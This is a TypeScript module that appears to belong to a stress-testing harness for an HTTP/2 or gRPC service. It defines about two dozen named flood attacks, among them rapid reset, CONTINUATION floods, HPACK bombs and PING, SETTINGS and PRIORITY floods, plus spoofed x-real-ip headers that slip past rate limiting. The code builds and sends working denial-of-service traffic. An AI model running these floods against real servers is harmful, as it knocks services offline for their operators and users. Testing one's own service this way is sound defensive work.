/**
 * Well-formed HTTP/2 in amounts that no client sends. The names are those under which such attacks
 * became known.
 * @module
 */

import { type AttackOptions, attack, attackers, repeat, type Target } from "./attack.ts";
import {
  callHeaders,
  clusterRequest,
  FLAG,
  frame,
  GREETING,
  grpcMessage,
  hpackInteger,
  indexedField,
  PREFACE,
  settings,
  TYPE,
  uint32,
} from "./http2-frames.ts";

/** How long one connection floods, if nobody says otherwise. */
const FLOOD_MS = 1500;
const CONNECTIONS = 4;
const MAX_UINT31 = 2 ** 31 - 1;

/** Sends it for about so long. */
export type Flood = (target: Target, floodMs?: number) => Promise<void>;

/** By name; each ends by itself within a few seconds. */
export const FLOODS: ReadonlyMap<string, Flood> = new Map([
  [
    "streams that are reset at once (rapid reset, CVE-2023-44487)",
    flood(() => streams((id) => [openCall("List", id), reset(id)])),
  ],
  [
    "watches that are reset at once",
    flood(() =>
      streams((id) => [
        openCall("Watch", id),
        frame(TYPE.data, FLAG.endStream, id, grpcMessage(clusterRequest("flood"))),
        reset(id),
      ]),
    ),
  ],
  [
    "streams that make the service reset them (made you reset, CVE-2025-8671)",
    flood(() =>
      streams((id) => [openCall("List", id), frame(TYPE.windowUpdate, 0, id, uint32(0))]),
    ),
  ],
  ["SETTINGS without rest (CVE-2019-9515)", flood(() => repeat(settings([3, 100]), 400_000))],
  [
    "SETTINGS whose acknowledgements nobody reads",
    flood(() => repeat(settings(), 400_000), { reads: false }),
  ],
  ["PING without rest (CVE-2019-9512)", flood(() => repeat(ping(), 400_000))],
  ["PING whose answers nobody reads", flood(() => repeat(ping(), 400_000), { reads: false })],
  [
    "CONTINUATION without end (CVE-2024-27316)",
    flood(() => [
      frame(TYPE.headers, FLAG.none, 1, callHeaders("Hello")),
      ...fill(2000, frame(TYPE.continuation, FLAG.none, 1, literals(16_000))),
    ]),
  ],
  [
    "empty CONTINUATION without end",
    flood(() =>
      following(
        frame(TYPE.headers, FLAG.none, 1, callHeaders("Hello")),
        repeat(frame(TYPE.continuation, FLAG.none, 1), 400_000),
      ),
    ),
  ],
  [
    "windows beyond 2^31-1, of the connection and of a stream",
    flood(() => [
      openCall("Watch", 1),
      ...fill(3, frame(TYPE.windowUpdate, 0, 1, uint32(MAX_UINT31))),
      ...fill(3, frame(TYPE.windowUpdate, 0, 0, uint32(MAX_UINT31))),
    ]),
  ],
  [
    "initial windows that go up and down under open streams",
    flood(() =>
      following(
        Buffer.concat(Array.from({ length: 500 }, (_, i) => openCall("Watch", 2 * i + 1))),
        repeat(Buffer.concat([settings([4, 0]), settings([4, MAX_UINT31])]), 20_000),
      ),
    ),
  ],
  [
    "header tables of 4 GiB",
    flood(() => [
      settings([1, 0xffff_ffff]),
      frame(
        TYPE.headers,
        FLAG.endHeaders | FLAG.endStream,
        1,
        Buffer.concat([hpackInteger(0xffff_ffff, 5, 0x20), callHeaders("Hello")]),
      ),
    ]),
  ],
  [
    "header tables whose size goes up and down",
    flood(() => repeat(Buffer.concat([settings([1, 0]), settings([1, 65_536])]), 100_000)),
  ],
  [
    "a small block that unpacks to many headers (HPACK bomb, CVE-2016-6581)",
    flood(() =>
      streams((id) => [
        frame(
          TYPE.headers,
          FLAG.endHeaders | FLAG.endStream,
          id,
          Buffer.concat([
            callHeaders("Hello"),
            indexedField("x-bomb", "b".repeat(3900)),
            Buffer.alloc(8000, 0x80 | 62),
          ]),
        ),
      ]),
    ),
  ],
  [
    "headers that name each other's cost (thousands of small ones)",
    flood(() =>
      streams((id) => [
        frame(
          TYPE.headers,
          FLAG.endHeaders | FLAG.endStream,
          id,
          Buffer.concat([callHeaders("Hello"), Buffer.alloc(4000, Buffer.of(0, 1, 0x61, 0))]),
        ),
      ]),
    ),
  ],
  [
    "DATA without bytes or end (CVE-2019-9518)",
    flood(() => following(openCall("Hello", 1), repeat(frame(TYPE.data, FLAG.none, 1), 400_000))),
  ],
  [
    "DATA of padding alone",
    flood(() => {
      const padding = Buffer.alloc(256, 0);
      padding[0] = 255;
      return following(
        openCall("Hello", 1),
        repeat(frame(TYPE.data, FLAG.padded, 1, padding), 20_000),
      );
    }),
  ],
  [
    "PRIORITY without rest (CVE-2019-9513)",
    flood(() =>
      repeat(
        Buffer.concat(
          [1, 3, 5].map((id) => frame(TYPE.priority, 0, id, Buffer.from([0, 0, 0, 7, 9]))),
        ),
        200_000,
      ),
    ),
  ],
  [
    "frames of types that nobody knows",
    flood(() => repeat(frame(0xbe, 0xff, 1, Buffer.alloc(64)), 200_000)),
  ],
  [
    "streams that stay open, more than there may be",
    flood(() => streams((id) => [openCall("Watch", id)], 20_000), { lingers: true }),
  ],
  [
    "answers that nobody gives room for (CVE-2019-9511)",
    flood(
      () =>
        following(
          settings([4, 0]),
          streams((id) => [
            openCall("List", id),
            frame(TYPE.data, FLAG.endStream, id, grpcMessage(clusterRequest("full"))),
          ]),
        ),
      { reads: false, lingers: true },
    ),
  ],
  [
    "answers that nobody reads (CVE-2019-9517)",
    flood(
      () =>
        following(
          Buffer.concat([
            settings([4, MAX_UINT31]),
            frame(TYPE.windowUpdate, 0, 0, uint32(MAX_UINT31 - 65_535)),
          ]),
          streams((id) => [
            openCall("List", id),
            frame(TYPE.data, FLAG.endStream, id, grpcMessage(clusterRequest("full"))),
          ]),
        ),
      { reads: false, lingers: true },
    ),
  ],
  [
    "PUSH_PROMISE, which is a server's",
    flood(() => repeat(frame(TYPE.pushPromise, FLAG.endHeaders, 1, uint32(2)), 10_000)),
  ],
  ["GOAWAY without going", flood(() => repeat(frame(TYPE.goaway, 0, 0, Buffer.alloc(8)), 100_000))],
  ["greetings without rest", (target) => attackers(400, 20, () => attack(target, [PREFACE]))],
]);

function flood(chunks: () => Iterable<Uint8Array>, options: AttackOptions = {}): Flood {
  return (target, floodMs = FLOOD_MS) =>
    attackers(CONNECTIONS, CONNECTIONS, () =>
      attack(target, following(GREETING, chunks()), { limitMs: floodMs, ...options }),
    );
}

/** Frames for one stream after the other, with the IDs of a client. */
function* streams(
  framesOf: (id: number) => readonly Uint8Array[],
  count = 200_000,
): Iterable<Uint8Array> {
  for (let index = 0; index < count; index++) yield Buffer.concat(framesOf(2 * index + 1));
}

function* following(first: Uint8Array, rest: Iterable<Uint8Array>): Iterable<Uint8Array> {
  yield first;
  yield* rest;
}

let callers = 0;

/** Each from an address of its own, so that the rate limit lets it through. */
function openCall(method: string, id: number): Buffer {
  callers = (callers + 1) % 60_000;
  const address = `10.8.${callers >> 8}.${callers & 255}`;
  return frame(TYPE.headers, FLAG.endHeaders, id, callHeaders(method, [["x-real-ip", address]]));
}

function reset(id: number): Buffer {
  return frame(TYPE.rstStream, 0, id, uint32(8));
}

function ping(): Buffer {
  return frame(TYPE.ping, 0, 0, Buffer.alloc(8, 1));
}

function fill<Item>(count: number, item: Item): Item[] {
  return Array.from({ length: count }, () => item);
}

/** So many bytes of header fields. */
function literals(length: number): Buffer {
  return Buffer.alloc(length, Buffer.from([0x00, 1, 0x61, 1, 0x62]));
}
